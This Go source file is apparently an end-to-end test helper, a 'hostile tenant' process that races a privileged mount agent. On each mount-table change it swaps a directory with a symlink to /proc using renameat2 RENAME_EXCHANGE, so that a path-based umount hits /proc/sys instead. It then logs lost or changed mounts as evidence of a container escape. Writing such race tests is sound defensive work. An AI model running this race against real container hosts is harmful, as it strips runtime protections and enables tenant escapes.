//go:build linux

// Command racer is a hostile tenant's process for the e2e suite (issue 32 item 1). It holds a
// directory (-dir, e.g. /w/x in an emptyDir) that contains the mount point of its volume
// (/w/x/sys), and on every change of its mount namespace's table — POLLPRI on
// /proc/self/mountinfo, which the kernel raises when a privileged agent moves a mount in or
// detaches one — it swaps that directory with a symlink to -to (/proc) by renameat2
// RENAME_EXCHANGE, back and forth, for a burst. An agent that checks the mount point's path and
// then resolves the same path again to act (umount2 by name) acts, when the swap lands in
// between, on /proc/sys instead: runc's read-only bind of it, or one of runc's masks.
//
// Every burst ends with the directory back at its name. After each burst the racer compares its
// mount table with the one it saw at start (outside the directory's parent) and logs every
// mount that is gone or changed as a LOST/CHANGED line: the tenant's own record of an escape.
// Log lines (stdout):
//
//	racer ready dir=/w/x link=/w/x.link to=/proc mounts=N
//	burst seq=3 swaps=1840 took=20.1ms lost=0
//	LOST id=812 mountpoint=/proc/sys options=ro,nosuid,nodev,noexec,relatime burst=3
//	CHANGED id=… mountpoint=… options=… was=… burst=3
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	dir := flag.String("dir", "/w/x", "the directory holding the volume's mount point (its parent must be writable)")
	to := flag.String("to", "/proc", "where the symlink swapped in for -dir points")
	burst := flag.Duration("burst", 20*time.Millisecond, "how long to swap after each mount table change")
	flag.Parse()
	if err := run(*dir, *to, *burst); err != nil {
		fmt.Fprintln(os.Stderr, "racer:", err)
		os.Exit(1)
	}
}

func run(dir, to string, burst time.Duration) error {
	dir = filepath.Clean(dir)
	link := dir + ".link"
	_ = os.Remove(link) // a link left by an earlier start of this container
	if err := os.Symlink(to, link); err != nil {
		return err
	}
	f, err := os.Open("/proc/self/mountinfo")
	if err != nil {
		return err
	}
	start, err := readTable(f)
	if err != nil {
		return err
	}
	base := kept(start, filepath.Dir(dir))
	fmt.Printf("racer ready dir=%s link=%s to=%s mounts=%d\n", dir, link, to, len(base))

	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
	fds := []unix.PollFd{{Fd: int32(f.Fd()), Events: unix.POLLPRI}}
	reported := map[string]bool{}
	for seq := 1; ; seq++ {
		select {
		case <-stop:
			return nil
		default:
		}
		// Each change of the namespace's table is reported once per open file (mounts_poll).
		if _, err := unix.Poll(fds, 1000); err != nil && !errors.Is(err, unix.EINTR) {
			return fmt.Errorf("poll mountinfo: %w", err)
		}
		if fds[0].Revents&unix.POLLPRI == 0 {
			continue
		}
		t0 := time.Now()
		swaps, err := swapFor(dir, link, burst)
		took := time.Since(t0)
		if err != nil {
			fmt.Printf("burst seq=%d swap error after %d swaps: %v\n", seq, swaps, err)
		}
		now, err := readTable(f)
		if err != nil {
			return err
		}
		lost := diff(base, kept(now, filepath.Dir(dir)))
		fmt.Printf("burst seq=%d swaps=%d took=%s lost=%d\n", seq, swaps, took.Round(100*time.Microsecond), len(lost))
		for _, l := range lost {
			if !reported[l] {
				reported[l] = true
				fmt.Printf("%s burst=%d\n", l, seq)
			}
		}
	}
}

// swapFor exchanges dir and link in pairs (so dir is back at its name after each pair) until d
// has passed, and returns the number of exchanges.
func swapFor(dir, link string, d time.Duration) (int, error) {
	n := 0
	for deadline := time.Now().Add(d); time.Now().Before(deadline); {
		for i := 0; i < 2; i++ {
			if err := unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
				if i == 1 { // half-way: put the directory back before giving up
					_ = unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
				}
				return n, err
			}
			n++
		}
	}
	return n, nil
}

// mount is what the racer keeps of a mountinfo line.
type mount struct {
	id         int
	mountPoint string
	options    string // per-mount options (field 6), e.g. ro,nosuid
}

// readTable reads the whole mount table through f from its start.
func readTable(f *os.File) ([]mount, error) {
	if _, err := f.Seek(0, 0); err != nil {
		return nil, err
	}
	var b []byte
	buf := make([]byte, 64<<10)
	for {
		n, err := f.Read(buf)
		b = append(b, buf[:n]...)
		if n == 0 || err != nil {
			break
		}
	}
	return parse(string(b)), nil
}

// parse keeps ID, mount point (unescaped) and per-mount options of each line; the kernel
// separates the fields by one space and escapes space, tab, newline and backslash.
func parse(s string) []mount {
	var out []mount
	for _, line := range strings.Split(s, "\n") {
		f := strings.Split(line, " ")
		if len(f) < 6 {
			continue
		}
		id, err := strconv.Atoi(f[0])
		if err != nil {
			continue
		}
		out = append(out, mount{id: id, mountPoint: unescape(f[4]), options: f[5]})
	}
	return out
}

func unescape(s string) string {
	r := strings.NewReplacer(`\040`, " ", `\011`, "\t", `\012`, "\n", `\134`, `\`)
	return r.Replace(s)
}

// kept drops the mounts at or below parent (the racer's own tree, whose names it swaps).
func kept(ms []mount, parent string) []mount {
	var out []mount
	for _, m := range ms {
		if m.mountPoint == parent || strings.HasPrefix(m.mountPoint, parent+"/") {
			continue
		}
		out = append(out, m)
	}
	return out
}

// diff lists the mounts of was that are gone from now (LOST) or show other options or another
// mount point (CHANGED).
func diff(was, now []mount) []string {
	byID := map[int]mount{}
	for _, m := range now {
		byID[m.id] = m
	}
	var out []string
	for _, m := range was {
		n, ok := byID[m.id]
		switch {
		case !ok:
			out = append(out, fmt.Sprintf("LOST id=%d mountpoint=%s options=%s", m.id, strconv.Quote(m.mountPoint), m.options))
		case n.options != m.options || n.mountPoint != m.mountPoint:
			out = append(out, fmt.Sprintf("CHANGED id=%d mountpoint=%s options=%s was=%s %s", m.id, strconv.Quote(n.mountPoint), n.options,
				strconv.Quote(m.mountPoint), m.options))
		}
	}
	return out
}
